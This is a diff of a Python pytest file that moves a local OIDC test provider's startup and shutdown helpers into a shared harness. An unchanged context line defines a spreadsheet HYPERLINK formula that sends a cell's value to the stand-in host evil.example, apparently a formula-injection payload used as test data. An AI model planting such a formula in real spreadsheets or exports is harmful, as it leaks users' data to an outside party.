@@ -11,8 +11,6 @@ import secrets
 import shutil
 import subprocess
 import sys
-import time
-import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -46,19 +44,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 TIMEOUT = 30_000
 
 
-def wait_until_up(url: str, proc: subprocess.Popen, log: Path) -> None:
-    deadline = time.monotonic() + 30
-    while True:
-        try:
-            with urllib.request.urlopen(url, timeout=2):
-                return
-        except OSError:
-            pass
-        if proc.poll() is not None or time.monotonic() > deadline:
-            raise RuntimeError(f"the test identity provider did not start; see {log}")
-        time.sleep(0.2)
-
-
 @pytest.fixture(scope="module")
 def idp(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     """A real OIDC provider on 127.0.0.1 with three predefined users."""
@@ -71,14 +56,11 @@ def idp(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         proc = subprocess.Popen(args, stdout=log, stderr=subprocess.STDOUT)
         url = f"http://127.0.0.1:{port}"
         try:
-            wait_until_up(f"{url}/.well-known/openid-configuration", proc, log_path)
+            what = f"the test identity provider (see {log_path})"
+            harness.wait_until_up(f"{url}/.well-known/openid-configuration", proc, what, 30)
             yield url
         finally:
-            proc.terminate()
-            try:
-                proc.wait(timeout=10)
-            except subprocess.TimeoutExpired:
-                proc.kill()
+            harness.stop(proc)
 
 
 def write_secrets(folder: Path, idp_url: str) -> Path:
